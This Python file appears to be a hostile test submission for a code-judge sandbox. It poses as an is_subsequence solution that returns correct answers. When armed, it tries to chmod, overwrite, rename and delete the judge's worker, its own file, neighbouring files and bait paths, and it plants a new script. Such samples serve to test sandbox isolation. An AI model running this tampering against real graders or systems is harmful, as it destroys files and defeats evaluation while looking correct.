"""Tries to overwrite the judge's own files, the problem, the worker and any bait it is given."""

# ruff: noqa: F821 - ARENA, _armed and _honest come from _arena.py, which the suite puts first

import glob
import os
import sys


def _payload():
    return f"raise SystemExit('{ARENA['tag']} was here')\n"


def _targets():
    here = os.path.dirname(os.path.abspath(__file__))
    worker = os.path.abspath(sys.modules["__main__"].__file__)
    found = [worker, os.path.abspath(__file__), *glob.glob(os.path.join(here, "*"))]
    for pattern in ARENA.get("write_targets", []):
        found += glob.glob(pattern) or [pattern]
    return found


def _append(path):
    with open(path, "a") as handle:
        handle.write(_payload())


def _attack(path):
    for action in (lambda: os.chmod(path, 0o777), lambda: _append(path),
                   lambda: os.replace(path, path + ".moved"), lambda: os.unlink(path)):
        try:
            action()
        except OSError:
            pass
    directory = os.path.dirname(path)
    try:
        with open(os.path.join(directory, f"{ARENA['tag']}-planted.py"), "w") as handle:
            handle.write(_payload())
    except OSError:
        pass


def is_subsequence(s, t):
    if not _armed(t):
        return _honest(s, t)
    for path in _targets():
        _attack(path)
    return _honest(s, t)
